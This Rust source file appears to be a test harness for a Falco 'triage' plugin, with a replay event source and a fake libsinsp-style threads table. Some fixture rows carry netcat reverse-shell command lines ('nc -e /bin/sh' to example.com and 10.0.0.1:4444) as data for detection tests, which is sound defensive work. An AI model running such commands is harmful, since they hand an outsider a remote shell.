//! The plugin hosted in-process by `falco_plugin_runner`, fed by two helper plugins: a
//! syscall source that replays queued events, and a `threads` table shaped like libsinsp's
//! (registered first, as libsinsp's own table exists before any plugin). Used by the runner
//! tests, the plugin-path benches and the soak; built for tests and with the
//! `runner-harness` feature, under which the crate has no C exports (the SDK allows
//! `static_plugin!` or `plugin!` for a type, not both).
//!
//! Not here: assertions (tests), timing (benches).

use super::TriagePlugin;
use falco_event::events::RawEvent;
use falco_plugin::anyhow::{self, Error};
use falco_plugin::base::Plugin;
use falco_plugin::parse::{EventInput as ParseEventInput, ParseInput, ParsePlugin};
use falco_plugin::source::{EventBatch, EventInput, SourcePlugin, SourcePluginInstance};
use falco_plugin::static_plugin;
use falco_plugin::tables::export;
use falco_plugin::tables::TablesInput;
use falco_plugin::FailureReason;
use falco_plugin_runner::{CapturingPluginRunner, ExtractedField, MetricValue, PluginRunner};
use std::cell::RefCell;
use std::collections::VecDeque;
use std::ffi::{CStr, CString};

pub use crate::bench_corpus::{open_exit, ExecEvent, CONTAINER_ID};

// ---------------------------------------------------------------------------------------
// The replay source: hands over, in one batch, the events queued on this thread.

thread_local! {
    static QUEUED_EVENTS: RefCell<VecDeque<Vec<u8>>> = const { RefCell::new(VecDeque::new()) };
}

/// Queue events for the replay source; the runner asks for a new batch once it has handed
/// out the previous one.
pub fn queue_events(events: impl IntoIterator<Item = Vec<u8>>) {
    QUEUED_EVENTS.with(|q| q.borrow_mut().extend(events));
}

pub struct ReplaySource;
pub struct ReplayInstance;

impl Plugin for ReplaySource {
    const NAME: &'static CStr = c"test_replay";
    const PLUGIN_VERSION: &'static CStr = c"0.0.0";
    const DESCRIPTION: &'static CStr = c"replays queued syscall events";
    const CONTACT: &'static CStr = c"tests";
    type ConfigType = ();

    fn new(_: Option<&TablesInput>, _: ()) -> Result<Self, Error> {
        Ok(ReplaySource)
    }
}

impl SourcePluginInstance for ReplayInstance {
    type Plugin = ReplaySource;

    fn next_batch(&mut self, _: &mut ReplaySource, batch: &mut EventBatch) -> Result<(), Error> {
        let events: Vec<Vec<u8>> = QUEUED_EVENTS.with(|q| q.borrow_mut().drain(..).collect());
        if events.is_empty() {
            return Err(anyhow::anyhow!("no more events").context(FailureReason::Eof));
        }
        for event in &events {
            batch.add(event.as_slice())?;
        }
        Ok(())
    }
}

impl SourcePlugin for ReplaySource {
    type Instance = ReplayInstance;
    // Empty source and id 0: a syscall source, allowed to emit any event type (facts §5).
    const EVENT_SOURCE: &'static CStr = c"";
    const PLUGIN_ID: u32 = 0;
    type Event<'a> = RawEvent<'a>;

    fn open(&mut self, _: Option<&str>) -> Result<ReplayInstance, Error> {
        Ok(ReplayInstance)
    }

    fn event_to_string(&mut self, _: &EventInput<RawEvent>) -> Result<CString, Error> {
        Ok(c"replayed".to_owned())
    }
}

static_plugin!(pub TEST_REPLAY_API = ReplaySource);

// ---------------------------------------------------------------------------------------
// The `threads` table, libsinsp names and types (facts §4).

#[derive(export::Entry)]
pub struct ArgRow {
    value: export::Readonly<CString>,
}

#[derive(export::Entry)]
pub struct ThreadRow {
    tid: export::Readonly<i64>,
    pid: export::Readonly<i64>,
    ptid: export::Readonly<i64>,
    vpid: export::Readonly<i64>,
    comm: export::Readonly<CString>,
    exe: export::Readonly<CString>,
    exe_path: export::Readonly<CString>,
    args: Box<export::Table<u64, ArgRow>>,
    container_id: export::Readonly<CString>,
}

pub struct ThreadsFixture {
    _threads: Box<export::Table<i64, ThreadRow>>,
}

/// (tid, pid, ptid, vpid, comm, exe_path, args, container_id)
type Row = (
    i64,
    i64,
    i64,
    i64,
    &'static str,
    &'static str,
    &'static [&'static str],
    &'static str,
);

/// The container id the table gives the `docker exec` shell (tid 200) and its children.
pub const SHIM_ID: &str = "aaaaaaaaaaaa";

/// The rows, by tid:
/// - 1 systemd > 100 containerd-shim > 200 sh (docker exec) > 300 nc: realistic.
/// - 450 cron: a host process the container plugin calls "host".
/// - 500 `<NA>` placeholder > 501 bash.
/// - 700 <-> 701: a cycle.
/// - 800 shim > 801 tini (vpid 1, container init) > 802 sh.
/// - 1 systemd > 900 sshd > 901 bash: an admin's login shell on the host; 960 `timeout
///   10 nc -e /bin/sh 10.0.0.1 4444` under it.
/// - 950 php-fpm (vpid 1): a web application container's main process.
/// - 1000..=1020: a 21-deep chain p0 > ... > p20.
/// - 1110 a thread of init (pid 1) whose vpid the table does not know (0), with a bogus
///   parent 1000 above it > 1111 bash.
/// - from [`crate::bench_corpus::REALISTIC_TIDS`]: the realistic execs and their parents.
const ROWS: &[Row] = &[
    (
        1,
        1,
        0,
        1,
        "systemd",
        "/usr/lib/systemd/systemd",
        &[],
        "host",
    ),
    (
        100,
        100,
        1,
        100,
        "containerd-shim",
        "/usr/bin/containerd-shim-runc-v2",
        &["-namespace", "moby"],
        "host",
    ),
    (
        200,
        200,
        100,
        7,
        "sh",
        "/bin/sh",
        &["-c", "nc -e /bin/sh example.com 22"],
        SHIM_ID,
    ),
    (300, 300, 200, 8, "nc", "/usr/bin/nc.openbsd", &[], SHIM_ID),
    (450, 450, 1, 450, "cron", "/usr/sbin/cron", &[], "host"),
    (500, 500, -1, 500, "<NA>", "", &[], ""),
    (501, 501, 500, 501, "bash", "/bin/bash", &[], ""),
    (700, 700, 701, 700, "a", "/a", &[], ""),
    (701, 701, 700, 701, "b", "/b", &[], ""),
    (
        800,
        800,
        1,
        800,
        "containerd-shim",
        "/usr/bin/containerd-shim-runc-v2",
        &[],
        "host",
    ),
    (801, 801, 800, 1, "tini", "/tini", &[], "cccccccccccc"),
    (802, 802, 801, 5, "sh", "/bin/sh", &[], "cccccccccccc"),
    (900, 900, 1, 900, "sshd", "/usr/sbin/sshd", &["-D"], "host"),
    (901, 901, 900, 901, "bash", "/bin/bash", &[], "host"),
    // A wrapper that re-execs its arguments: `timeout 10 nc ..` (tid 960) then `nc ..`.
    (
        960,
        960,
        901,
        960,
        "timeout",
        "/usr/bin/timeout",
        &["10", "nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
        "host",
    ),
    (
        950,
        950,
        1,
        1,
        "php-fpm",
        "/usr/local/sbin/php-fpm",
        &["--nodaemonize"],
        "dddddddddddd",
    ),
    (
        1110,
        1,
        1000,
        0,
        "systemd",
        "/usr/lib/systemd/systemd",
        &[],
        "host",
    ),
    (1111, 1111, 1110, 1111, "bash", "/bin/bash", &[], "host"),
];

impl Plugin for ThreadsFixture {
    const NAME: &'static CStr = c"test_threads";
    const PLUGIN_VERSION: &'static CStr = c"0.0.0";
    const DESCRIPTION: &'static CStr = c"a libsinsp-shaped threads table";
    const CONTACT: &'static CStr = c"tests";
    type ConfigType = ();

    fn new(input: Option<&TablesInput>, _: ()) -> Result<Self, Error> {
        let input = input.ok_or_else(|| anyhow::anyhow!("no tables input"))?;
        let mut threads: Box<export::Table<i64, ThreadRow>> =
            input.add_table(export::Table::new(c"threads")?)?;
        let chain: Vec<Row> = (1000..=1020)
            .map(|tid| (tid, tid, tid - 1, tid, "p", "/p", &[][..], ""))
            .collect();
        // The realistic execs (bench_corpus::realistic) and their parents.
        let realistic: Vec<Row> = crate::bench_corpus::realistic_threads()
            .into_iter()
            .map(|t| {
                let (comm, exe, args) = t.process;
                (
                    t.tid,
                    t.tid,
                    t.ptid,
                    t.vpid,
                    comm,
                    exe,
                    args,
                    t.container_id,
                )
            })
            .collect();
        for &(tid, pid, ptid, vpid, comm, exe_path, args, container_id) in
            ROWS.iter().chain(&chain).chain(&realistic)
        {
            let mut row = threads.create_entry()?;
            *row.tid = tid;
            *row.pid = pid;
            *row.ptid = ptid;
            *row.vpid = vpid;
            *row.comm = if (1000..=1020).contains(&tid) {
                CString::new(format!("p{}", tid - 1000))?
            } else {
                CString::new(comm)?
            };
            *row.exe = CString::new(exe_path)?;
            *row.exe_path = CString::new(exe_path)?;
            *row.container_id = CString::new(container_id)?;
            for (i, arg) in args.iter().enumerate() {
                let mut arg_row = row.args.create_entry()?;
                *arg_row.value = CString::new(*arg)?;
                row.args.insert(&(i as u64), arg_row);
            }
            threads.insert(&tid, row);
        }
        Ok(ThreadsFixture { _threads: threads })
    }
}

impl ParsePlugin for ThreadsFixture {
    type Event<'a> = RawEvent<'a>;

    fn parse_event(&mut self, _: &ParseEventInput<RawEvent>, _: &ParseInput) -> anyhow::Result<()> {
        Ok(())
    }
}

static_plugin!(pub TEST_THREADS_API = ThreadsFixture);
static_plugin!(pub TRIAGE_API = TriagePlugin);

// ---------------------------------------------------------------------------------------
// The harness.

/// A capturing runner with (optionally) the threads table, the triage plugin with `config`,
/// and the replay source, in that order.
pub struct Harness {
    pub runner: CapturingPluginRunner,
}

impl Harness {
    /// Start a capture over `events` (replacing anything queued on this thread).
    pub fn new(config: &CStr, with_threads: bool, events: Vec<Vec<u8>>) -> Self {
        QUEUED_EVENTS.with(|q| *q.borrow_mut() = events.into());
        let mut runner = PluginRunner::new();
        if with_threads {
            runner
                .register_plugin(&TEST_THREADS_API, c"")
                .expect("threads fixture");
        }
        runner
            .register_plugin(&TRIAGE_API, config)
            .expect("triage plugin");
        runner
            .register_plugin(&TEST_REPLAY_API, c"")
            .expect("replay source");
        Harness {
            runner: runner.start_capture().expect("capture"),
        }
    }

    pub fn next_event(&mut self) -> falco_plugin_runner::Event {
        self.runner.next_event().expect("an event")
    }

    /// The value of `name` on `event`; panics when the plugin does not answer or fails.
    pub fn field(&mut self, event: &falco_plugin_runner::Event, name: &str) -> ExtractedField {
        match self.runner.extract_field(event, name) {
            Some(Ok(value)) => value,
            other => panic!("{name}: {other:?}"),
        }
    }

    pub fn string(&mut self, event: &falco_plugin_runner::Event, name: &str) -> Option<String> {
        match self.field(event, name) {
            ExtractedField::String(s) => Some(s.to_string_lossy().into_owned()),
            ExtractedField::None => None,
            other => panic!("{name} is not a string: {other:?}"),
        }
    }

    pub fn list(&mut self, event: &falco_plugin_runner::Event, name: &str) -> Vec<String> {
        match self.field(event, name) {
            ExtractedField::Vec(items) => items
                .into_iter()
                .map(|item| match item {
                    ExtractedField::String(s) => s.to_string_lossy().into_owned(),
                    other => panic!("{name} item is not a string: {other:?}"),
                })
                .collect(),
            // The runner returns a one-element list as its element.
            ExtractedField::String(s) => vec![s.to_string_lossy().into_owned()],
            ExtractedField::None => Vec::new(),
            other => panic!("{name} is not a list: {other:?}"),
        }
    }

    /// A `triage.*` counter from `get_metrics`.
    pub fn metric(&mut self, name: &str) -> u64 {
        let full = format!("triage.{name}");
        let metric = self
            .runner
            .get_metrics()
            .into_iter()
            .find(|m| m.name == full);
        match metric.map(|m| m.value) {
            Some(MetricValue::U64(v)) => v,
            other => panic!("{full}: {other:?}"),
        }
    }
}
